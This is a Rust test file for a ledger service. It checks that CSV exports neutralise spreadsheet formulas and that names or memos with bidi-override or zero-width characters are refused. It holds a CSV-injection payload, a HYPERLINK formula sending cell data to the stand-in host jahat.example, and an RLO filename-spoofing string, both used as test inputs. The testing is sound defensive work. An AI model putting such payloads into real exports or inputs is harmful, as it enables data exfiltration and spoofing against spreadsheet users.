//! Hardening, seen from outside: CSV exports that a spreadsheet cannot run, names and memos
//! without format characters.

use super::helpers::*;
use axum::http::StatusCode;
use kube_ledger::service::export::{export, ExportFormat};
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")";

/// The cells of a CSV text, row by row.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_string).collect()).collect()
}

#[tokio::test]
async fn a_formula_in_a_memo_comes_out_of_the_csv_export_as_text() {
    let app = spawn_app().await;
    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
        let (status, body) =
            app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    let mut out = Vec::new();
    export(app.ledger.store_for_tests(), app.kube, ExportFormat::Csv, &mut out).unwrap();
    let rows = cells(&String::from_utf8(out).unwrap());
    let memo_column = rows[0].iter().position(|name| name == "memo").unwrap();
    let memos: Vec<&str> = rows[1..].iter().map(|row| row[memo_column].as_str()).collect();
    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
        assert!(memos.contains(&format!("'{memo}").as_str()), "{memo:?} not neutralised: {memos:?}");
        assert!(!memos.contains(&memo), "{memo:?} written raw");
    }
    for row in &rows[1..] {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
            assert!(!cell.starts_with('-') || cell[1..].parse::<f64>().is_ok(), "a formula cell: {cell:?}");
        }
    }
}

#[tokio::test]
async fn a_name_or_memo_with_a_bidi_override_or_zero_width_character_is_refused_at_its_field() {
    let app = spawn_app().await;
    for name in ["Ani\u{202E}gnp.exe", "A\u{200B}ni", "\u{2066}Ani"] {
        let body = json!({"number": "TAHU-050", "name": name, "kind": "klien", "joined_on": "2026-01-05"});
        let path = format!("/api/v1/entities/{}/members", app.kube);
        let (status, answer) = send(&app.router, "POST", &path, Some(&app.treasurer), Some(body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("nama anggota") && message.contains("format tak terlihat"), "{name:?}: {answer}");
    }
    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
    let memo = "Jual tahu \u{202E}000.005 pR";
    let before = app.entries_count(app.kube).await;
    let (status, answer) =
        app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert_eq!(answer["error"]["code"], "invalid_memo", "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap_or_default().contains("format tak terlihat"), "{answer}");
    assert_eq!(app.entries_count(app.kube).await, before, "nothing stored");
}

#[tokio::test]
async fn a_formula_in_a_kube_name_comes_out_of_the_report_csv_as_text() {
    let app = spawn_app().await;
    let body = json!({"kind": "kube", "name": FORMULA, "parent_id": app.panti});
    let (status, created) = send(&app.router, "POST", "/api/v1/entities", Some(&app.admin), Some(body)).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let kube = created["id"].as_u64().unwrap();
    let settings = format!("/api/v1/entities/{}/reports/settings", app.panti);
    let (status, answer) =
        send(&app.router, "PUT", &settings, Some(&app.head), Some(json!({"start_month": "2025-01"}))).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let plan = format!("/api/v1/entities/{}/plans/2025", app.panti);
    let body = crate::report::plan_body(kube, "1500000");
    let (status, answer) = send(&app.router, "PUT", &plan, Some(&app.head), Some(body)).await;
    assert_eq!(status, StatusCode::CREATED, "{answer}");
    let path = format!("/api/v1/entities/{}/reports/2025-TW1?format=csv&table=1", app.panti);
    let (status, csv) = app.get(&app.supervisor, &path).await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    let rows = cells(csv.as_str().unwrap());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    assert!(cells.contains(&&format!("'{FORMULA}")), "the KUBE's name, neutralised: {rows:?}");
    assert!(!cells.iter().any(|cell| cell.starts_with('=')), "{rows:?}");
}

#[tokio::test]
async fn the_member_page_refuses_a_bidi_override_at_the_name_field() {
    let app = spawn_app().await;
    let new = crate::pages_books::kube_path(&app, "/members/new");
    let cookie = format!("{}; lang=en", crate::pages::session(&app.treasurer));
    let typed = [
        ("number", "TAHU-060"),
        ("name", "Ani\u{202E}gnp.exe"),
        ("kind", "klien"),
        ("phone", ""),
        ("nik", ""),
        ("date", "2026-02-01"),
    ];
    let answer = crate::pages_books::submit(&app, &cookie, &new, &new, &typed).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    let error =
        "id=\"name-error\">The name is required, at most 200 characters, with no control or invisible characters";
    assert!(answer.body.contains(error), "{error} missing: {}", answer.body);
    assert_eq!(app.ledger.members(app.kube).unwrap().len(), 1, "nobody registered");
}
